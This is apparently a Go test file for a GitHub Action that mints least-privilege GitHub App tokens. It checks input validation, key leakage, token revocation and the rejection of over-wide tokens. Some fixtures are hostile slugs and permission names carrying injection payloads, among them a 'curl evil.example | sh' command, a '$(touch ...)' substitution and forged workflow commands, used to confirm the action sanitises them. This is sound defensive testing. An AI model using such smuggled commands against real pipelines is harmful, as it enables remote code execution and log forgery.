package main

// Issue 8: least privilege that no typo, server or proxy can break. Each
// test runs the built binary as the runner runs it, against the emulator,
// and attacks one promise.

import (
	"encoding/json"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/app-token/app-token/internal/githubtest"
)

// A misspelt or undeclared input reaches the action (the runner only warns)
// and must fail the step before any call, naming it and the nearest input:
// otherwise the token silently comes out wider than the workflow asked.
func TestMisspeltInputsFailBeforeAnyCall(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		with []string
		want []string
	}{
		{"misspelt permission", []string{"permission-contens", "write"}, []string{`input "permission-contens" is not an input of this action (did you mean permission-contents?)`}},
		{"swapped letters", []string{"permission-isuses", "read"}, []string{"did you mean permission-issues?"}},
		{"repository for repositories", []string{"owner", "octo-org", "repository", "infra"}, []string{`input "repository" is not an input of this action (did you mean repositories?)`}},
		{"underscore for hyphen", []string{"private_key", "x"}, []string{`"private_key"`, "did you mean private-key?"}},
		{"unrelated name", []string{"frobnicate", "yes"}, []string{`input "frobnicate" is not an input of this action`}},
		{"empty permissions block", []string{"permissions", "{}"}, []string{"input permissions is set but names no permission", "leave permissions out"}},
		{"comment-only block", []string{"permissions", "# contents: write\n# issues: read"}, []string{"names no permission"}},
		{"blank repositories", []string{"owner", "octo-org", "repositories", ", ,"}, []string{"input repositories is set but names no repository", "leave repositories out"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := NewWorld(t).With(tt.with...)
			res := w.Main()
			FailedWith(t, res, tt.want...)
			if n := len(w.Emu.Requests()); n != 0 {
				t.Errorf("GitHub saw %d requests (%q); a misspelt input must fail first", n, w.Calls())
			}
		})
	}
}

// A permission newer than the action's table is forwarded to GitHub as
// written, with a notice, so new permissions keep working; the pre-flight
// check still refuses one the installation was not granted.
func TestNewPermissionsAreForwarded(t *testing.T) {
	t.Parallel()
	grant := func(c *githubtest.Config) { c.Installations[0].Permissions["quantum_leaps"] = "write" }
	w := NewWorld(t, grant).With("permission-quantum-leaps", "write", "permissions", "contents: read")
	res := w.Main()
	Succeeded(t, res)
	if got := w.OnlyToken().Permissions; got["quantum_leaps"] != "write" || got["contents"] != "read" || len(got) != 2 {
		t.Errorf("token permissions = %v", got)
	}
	if !slices.ContainsFunc(res.Notices, func(n string) bool {
		return strings.Contains(n, "quantum_leaps") && strings.Contains(n, "sent to GitHub as written")
	}) {
		t.Errorf("notices = %q", res.Notices)
	}

	w = NewWorld(t).With("permission-quantum-leaps", "write")
	FailedWith(t, w.Main(), "quantum_leaps:write is not granted to the installation on octo-org")
	if len(w.Emu.Tokens()) != 0 {
		t.Error("minted although the installation lacks the permission")
	}
}

// A private key pasted into another input is refused without a line of it
// in the log (the leak check scans for every line of the key).
func TestKeyInTheWrongInputIsNotEchoed(t *testing.T) {
	t.Parallel()
	for _, input := range []string{"permissions", "repositories", "owner", "client-id"} {
		t.Run(input, func(t *testing.T) {
			w := NewWorld(t).With(input, AppPEM)
			res := w.Main()
			FailedWith(t, res, "input "+input+" holds what looks like a private key or token (not shown)")
			if len(w.Emu.Requests()) != 0 {
				t.Error("GitHub was called")
			}
		})
	}
}

// If the token cannot be saved for the post phase, nothing would revoke it:
// it is revoked at once and the step fails.
func TestUnsavedTokenIsRevoked(t *testing.T) {
	t.Parallel()
	w := NewWorld(t)
	w.Step.Env["GITHUB_STATE"] = filepath.Join(t.TempDir(), "missing", "state")
	res := w.Main()
	FailedWith(t, res, "save the token for the post phase", "The token was revoked at once")
	if !w.OnlyToken().Revoked {
		t.Error("the unsaved token is still alive")
	}
	if res.Outputs["token"] != "" {
		t.Error("the token was handed out")
	}
}

// hostileInstallation is an installation answer whose strings are not
// GitHub's: a slug carrying shell syntax and workflow commands.
func hostileInstallation(slug string) githubtest.Fault {
	body, _ := json.Marshal(map[string]any{
		"id": 1001, "app_id": githubtest.DefaultAppID, "app_slug": slug,
		"account":              map[string]any{"login": "octo-org", "type": "Organization"},
		"repository_selection": "selected",
		"permissions":          githubtest.DefaultConfig(nil).Installations[0].Permissions,
	})
	return githubtest.Fault{Method: "GET", Path: "/repos/octo-org/app/installation", Status: 200, Body: string(body)}
}

// Strings from GitHub reach outputs and the log only in GitHub's alphabets:
// a slug with a line break or shell syntax leaves the identity outputs
// empty, with a warning, and forges nothing.
func TestHostileSlugIsNotPassedOn(t *testing.T) {
	t.Parallel()
	for _, slug := range []string{
		"release-bot\n::stop-commands::INJECTED",
		"bot'; curl evil.example | sh; echo '",
		"$(touch /tmp/INJECTED)",
		"bot\r\n::add-mask::INJECTED",
	} {
		t.Run(slug, func(t *testing.T) {
			w := NewWorld(t)
			w.Emu.AddFault(hostileInstallation(slug))
			res := w.Main()
			Succeeded(t, res)
			CheckNoForgedCommands(t, res, w.Secrets, w.Emu.Tokens())
			for _, k := range []string{"app-slug", "git-user-name", "git-user-email", "bot-user-id"} {
				if res.Outputs[k] != "" {
					t.Errorf("output %s = %q", k, res.Outputs[k])
				}
			}
			if strings.Contains(res.Stdout+res.Summary, "INJECTED") {
				t.Errorf("the slug reached the log or summary")
			}
			if !slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "slug that is not one") }) {
				t.Errorf("warnings = %q", res.Warnings)
			}
		})
	}
}

// mintAnswer fakes GitHub's answer to the token request.
func mintAnswer(t *testing.T, answer map[string]any) githubtest.Fault {
	t.Helper()
	answer["token"] = "ghs_" + strings.Repeat("Q", 36)
	answer["expires_at"] = "2099-01-01T00:00:00Z"
	body, err := json.Marshal(answer)
	if err != nil {
		t.Fatal(err)
	}
	return githubtest.Fault{Method: "POST", Path: "/app/installations/1001/access_tokens", Status: 201, Body: string(body)}
}

// Permission names and levels in the mint answer that are not GitHub's are
// not shown: the permissions output stays empty, with a warning, and no
// workflow command is forged.
func TestHostilePermissionNamesAreNotShown(t *testing.T) {
	t.Parallel()
	w := NewWorld(t).With("token-ready-seconds", "0") // a token GitHub never minted
	w.Emu.AddFault(mintAnswer(t, map[string]any{
		"permissions":          map[string]string{"contents\n::error::INJECTED": "write", "issues": "read\n::stop-commands::INJECTED"},
		"repository_selection": "selected",
		"repositories":         []map[string]string{{"name": "app", "full_name": "octo-org/app"}},
	}))
	res := w.Main()
	Succeeded(t, res)
	CheckNoForgedCommands(t, res, append(w.Secrets, "ghs_"+strings.Repeat("Q", 36)), nil)
	if res.Outputs["permissions"] != "" || strings.Contains(res.Stdout+res.Summary, "INJECTED") {
		t.Errorf("permissions output %q; log:\n%s", res.Outputs["permissions"], res.Log())
	}
	for k, v := range res.Outputs {
		if strings.ContainsAny(v, "\r\n") {
			t.Errorf("output %s spans lines: %q", k, v)
		}
	}
	if !slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "permissions output is empty") }) {
		t.Errorf("warnings = %q", res.Warnings)
	}
}

// A token wider than asked (more repositories, more permissions, another
// account) is revoked at once and the step fails: the log never claims a
// scope the token does not have.
func TestWiderAnswerIsRevoked(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		answer map[string]any
		want   string
	}{
		{"every repository", map[string]any{"repository_selection": "all", "permissions": map[string]string{"contents": "write"}}, "every repository of the installation"},
		{"another repository", map[string]any{"repository_selection": "selected", "permissions": map[string]string{"contents": "write"},
			"repositories": []map[string]string{{"name": "infra", "full_name": "octo-org/infra"}}}, "repository octo-org/infra"},
		{"another account", map[string]any{"repository_selection": "selected", "permissions": map[string]string{"contents": "write"},
			"repositories": []map[string]string{{"name": "app", "full_name": "octocat/app"}}}, "repository octocat/app"},
		{"more permissions", map[string]any{"repository_selection": "selected", "permissions": map[string]string{"contents": "write", "administration": "write"},
			"repositories": []map[string]string{{"name": "app", "full_name": "octo-org/app"}}}, "permissions administration:write"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := NewWorld(t).With("permissions", "contents: write", "token-ready-seconds", "0")
			w.Emu.AddFault(mintAnswer(t, tt.answer))
			res := w.Main()
			FailedWith(t, res, "GitHub's answer grants the token "+tt.want+", beyond what was asked")
			if !slices.Contains(w.Calls(), "DELETE /installation/token") {
				t.Errorf("the wider token was not revoked; calls %q", w.Calls())
			}
			if res.Outputs["token"] != "" || res.State["token"] != "" {
				t.Error("the wider token was handed out")
			}
		})
	}
}
